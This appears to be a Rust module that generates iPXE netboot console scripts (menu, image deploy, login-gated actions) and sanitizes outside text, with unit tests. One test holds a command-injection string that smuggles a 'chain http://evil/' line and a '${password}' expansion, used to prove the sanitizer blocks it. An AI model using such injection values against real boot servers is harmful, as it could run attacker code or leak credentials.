//! The iPXE scripts of the preboot console, as text: pure functions of
//! what the server knows, so they are tested without firmware.
//!
//! Placeholders are filled by netboot when served: `{http}` (its base URL),
//! `{http-login}` (the same with the credentials iPXE's `login` asked for,
//! sent as Basic authorization and never printed) and `{mac}`.
//!
//! Anything that came from outside (names, errors, image names) goes
//! through [`text`] first: iPXE expands `${...}` in every command line,
//! and a newline would start a new command.

use std::fmt::Write as _;

/// Longest free text the console shows on one line.
const LINE: usize = 72;

/// Seconds the menu waits for a choice before it boots the disk: a machine
/// left at its menu does not stay there.
pub(crate) const MENU_TIMEOUT_S: u32 = 300;

/// `s` made safe for an iPXE command line, cut to `max` characters:
/// printable ASCII without `$`, `\`, quotes or the characters iPXE
/// treats as operators (`|`, `&`, `#` at a word start); others become `?`.
pub(crate) fn text(s: &str, max: usize) -> String {
    let mut out: String = s
        .chars()
        .take(max)
        .map(|c| match c {
            ' '..='~' if !"$\\\"'|&#{}".contains(c) => c,
            _ => '?',
        })
        .collect();
    if s.chars().count() > max {
        out.push_str("...");
    }
    out
}

/// The console's URL for `action` (placeholders filled when served).
fn url(action: &str, arch: u16, login: bool) -> String {
    let base = if login { "{http-login}" } else { "{http}" };
    format!("{base}/console/{{mac}}/{action}?arch={arch}")
}

/// What a machine with no work runs: the prompt, then its disk. `local`
/// is the script that boots the disk (`#!ipxe` line included).
pub(crate) fn prompt(key: char, secs: u32, arch: u16, local: &str) -> String {
    let local = local.trim_start_matches("#!ipxe\n");
    format!(
        "#!ipxe\n\
         prompt --key {key} --timeout {ms} rackcast: press {key} within {secs} s for the menu || goto local\n\
         chain {menu} || goto local\n\
         :local\n\
         {local}",
        ms = u64::from(secs) * 1000,
        menu = url("menu", arch, false),
    )
}

/// An image offered by the deploy menu.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Offer {
    pub(crate) name: String,
    pub(crate) bytes: u64,
    pub(crate) signed: bool,
}

/// What the menu shows of a machine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct MenuView {
    /// Its name, or empty when it has none (or is not enrolled).
    pub(crate) name: String,
    /// Its state in words ("not enrolled" for a stranger).
    pub(crate) state: String,
    /// The failure it is held on, if any.
    pub(crate) held: Option<String>,
    /// The library's images.
    pub(crate) images: Vec<Offer>,
    /// Raw option 93, carried into every URL.
    pub(crate) arch: u16,
    /// The script that boots its disk.
    pub(crate) local: String,
}

/// The menu script for one machine.
pub(crate) fn menu(v: &MenuView) -> String {
    let arch = v.arch;
    let who = if v.name.is_empty() {
        "{mac}".to_string()
    } else {
        format!("{} ({{mac}})", text(&v.name, 40))
    };
    let mut s = String::from("#!ipxe\n:menu\n");
    let _ = writeln!(s, "menu rackcast console: {who}");
    let _ = writeln!(s, "item --gap State: {}", text(&v.state, LINE));
    if let Some(h) = &v.held {
        let _ = writeln!(s, "item --gap Held: {}", text(h, LINE));
    }
    s.push_str(
        "item --gap\n\
         item --key l local     [l] Boot the local disk\n\
         item --key r register  [r] Register this machine\n\
         item --key h info      [h] Show hardware information\n\
         item --key c capture   [c] Capture this disk to an image\n\
         item --key d deploy    [d] Deploy an image\n\
         item --key s shell     [s] Open a maintenance shell\n\
         item --key x firmware  [x] Exit to the firmware\n",
    );
    let _ = writeln!(
        s,
        "choose --default local --timeout {} rc_choice || goto local\ngoto ${{rc_choice}}",
        MENU_TIMEOUT_S * 1000
    );
    let _ = write!(
        s,
        "\n:local\n{}\n:firmware\nexit\n",
        v.local.trim_start_matches("#!ipxe\n").trim_end()
    );
    let _ = write!(
        s,
        "\n:register\necho -n Name for this machine:\nread rc_name || goto menu\n\
         clear password ||\nlogin || goto menu\nchain {}&name=${{rc_name:uristring}} || goto menu\ngoto menu\n",
        url("register", arch, true)
    );
    let _ = write!(
        s,
        "\n:info\nchain {} || goto menu\ngoto menu\n",
        url("info", arch, false)
    );
    let _ = write!(
        s,
        "\n:capture\necho -n Name of the new image:\nread rc_image || goto menu\n\
         clear password ||\nlogin || goto menu\nchain {}&image=${{rc_image:uristring}} || goto menu\ngoto menu\n",
        url("capture", arch, true)
    );
    s.push_str("\n:deploy\nmenu Deploy an image onto this machine's disk\n");
    if v.images.is_empty() {
        s.push_str("item --gap The library has no images.\n");
    } else {
        s.push_str("item --gap Images in the library:\n");
    }
    for i in &v.images {
        // Library names are letters, digits, '.', '_' and '-' (checked
        // when stored); the label carries the name back.
        let _ = writeln!(
            s,
            "item i:{name} {name}  {size}{signed}",
            name = text(&i.name, 64),
            size = gib(i.bytes),
            signed = if i.signed { "  [signed]" } else { "" }
        );
    }
    let _ = write!(
        s,
        "item --gap\nitem back Back to the menu\nchoose --default back --timeout {ms} rc_image || goto menu\n\
         iseq ${{rc_image}} back && goto menu ||\nclear password ||\nlogin || goto menu\n\
         chain {}&image=${{rc_image:uristring}} || goto menu\ngoto menu\n",
        url("deploy", arch, true),
        ms = MENU_TIMEOUT_S * 1000
    );
    let _ = write!(
        s,
        "\n:shell\nclear password ||\nlogin || goto menu\nchain {} || goto menu\ngoto menu\n",
        url("shell", arch, true)
    );
    s
}

/// Hardware information: what iPXE reads from the firmware, then what
/// the server knows (`known`, one line each), then back to the menu.
pub(crate) fn info(arch: u16, known: &[String]) -> String {
    let mut s = String::from(
        "#!ipxe\n\
         echo Machine:  ${manufacturer} ${product}, serial ${serial}\n\
         echo UUID:     ${uuid}\n\
         echo Firmware: ${platform} ${buildarch}, network ${net0/mac} ${net0/ip}\n",
    );
    if known.is_empty() {
        s.push_str("echo Server:   no inventory yet (register this machine to collect it)\n");
    }
    for k in known {
        let _ = writeln!(s, "echo Server:   {}", text(k, LINE));
    }
    let _ = write!(
        s,
        "prompt Press any key to return to the menu ||\nchain {}\n",
        url("menu", arch, false)
    );
    s
}

/// A message, a pause, then the menu again.
pub(crate) fn back_to_menu(msg: &str, arch: u16) -> String {
    format!(
        "#!ipxe\necho rackcast: {}\nprompt --timeout 10000 Press any key to return to the menu ||\nchain {}\n",
        text(msg, 2 * LINE),
        url("menu", arch, false)
    )
}

/// A message, then the boot the scheduler now has for this machine.
pub(crate) fn then_boot(msg: &str, arch: u16) -> String {
    format!(
        "#!ipxe\necho rackcast: {}\nchain {{http}}/ipxe/{{mac}}?arch={arch}\n",
        text(msg, 2 * LINE)
    )
}

fn gib(bytes: u64) -> String {
    format!("{:.1} GiB", bytes as f64 / f64::from(1u32 << 30))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn outside_text_cannot_expand_settings_or_start_commands() {
        let t = text("a${password}\nchain http://evil/|| \"x\" 'y' #z", 100);
        assert!(
            !t.contains('$') && !t.contains('\n') && !t.contains('|'),
            "{t}"
        );
        assert!(
            !t.contains('"') && !t.contains('\'') && !t.contains('#'),
            "{t}"
        );
        assert_eq!(text("abcdef", 3), "abc...");
        assert_eq!(text("node-01.r12", 64), "node-01.r12");
    }

    #[test]
    fn the_prompt_waits_for_the_key_then_boots_the_disk() {
        let local = "#!ipxe\nsanboot --no-describe --drive 0x80 || exit\n";
        let p = prompt('m', 3, 0, local);
        assert!(
            p.starts_with("#!ipxe\nprompt --key m --timeout 3000 "),
            "{p}"
        );
        assert!(
            p.contains("chain {http}/console/{mac}/menu?arch=0 || goto local"),
            "{p}"
        );
        assert!(
            p.ends_with(":local\nsanboot --no-describe --drive 0x80 || exit\n"),
            "{p}"
        );
        assert_eq!(p.matches("#!ipxe").count(), 1);
    }

    fn view() -> MenuView {
        MenuView {
            name: "node-1".into(),
            state: "failed".into(),
            held: Some("job 3 task 1: disk ${x} gone".into()),
            images: vec![
                Offer {
                    name: "deb12".into(),
                    bytes: 3 << 29,
                    signed: true,
                },
                Offer {
                    name: "raw".into(),
                    bytes: 1 << 30,
                    signed: false,
                },
            ],
            arch: 7,
            local: "#!ipxe\nchain {http}/files/rackcast-local-x64.efi || exit\n".into(),
        }
    }

    #[test]
    fn the_menu_offers_every_choice_and_sends_credentials_only_by_login() {
        let m = menu(&view());
        for label in [
            "local", "register", "info", "capture", "deploy", "shell", "firmware",
        ] {
            assert!(m.contains(&format!("\n:{label}\n")), "no :{label} in\n{m}");
            assert!(m.contains(&format!(" {label} ")), "no item {label} in\n{m}");
        }
        assert!(m.contains("menu rackcast console: node-1 ({mac})"), "{m}");
        assert!(
            m.contains("item --gap Held: job 3 task 1: disk ??x? gone"),
            "{m}"
        );
        assert!(m.contains("item i:deb12 deb12  1.5 GiB  [signed]"), "{m}");
        assert!(m.contains("item i:raw raw  1.0 GiB\n"), "{m}");
        // Every change goes through login, to a URL that carries the
        // credentials as userinfo (Basic), never in the query string.
        for action in ["register", "capture", "deploy", "shell"] {
            let at = m.find(&format!("\n:{action}\n")).unwrap();
            let section = &m[at..];
            let end = section[1..].find("\n:").map_or(section.len(), |e| e + 1);
            let section = &section[..end];
            // A secret typed before is never offered again.
            assert!(
                section.contains("clear password ||\nlogin || goto menu"),
                "{section}"
            );
            assert!(
                section.contains(&format!("{{http-login}}/console/{{mac}}/{action}?arch=7")),
                "{section}"
            );
            // Only `clear password` names it: never a URL or a message.
            assert_eq!(section.matches("password").count(), 1, "{section}");
        }
        assert!(
            m.contains("chain {http}/files/rackcast-local-x64.efi || exit"),
            "{m}"
        );
    }

    #[test]
    fn an_empty_library_says_so() {
        let mut v = view();
        v.images.clear();
        v.held = None;
        let m = menu(&v);
        assert!(m.contains("The library has no images."), "{m}");
        assert!(!m.contains("Held:"), "{m}");
    }

    #[test]
    fn info_lists_what_the_server_knows_and_returns() {
        let i = info(0, &["CPU: 2 x Xeon $evil".into()]);
        assert!(i.contains("echo Server:   CPU: 2 x Xeon ?evil"), "{i}");
        assert!(
            i.ends_with("chain {http}/console/{mac}/menu?arch=0\n"),
            "{i}"
        );
        assert!(info(0, &[]).contains("no inventory yet"));
    }
}
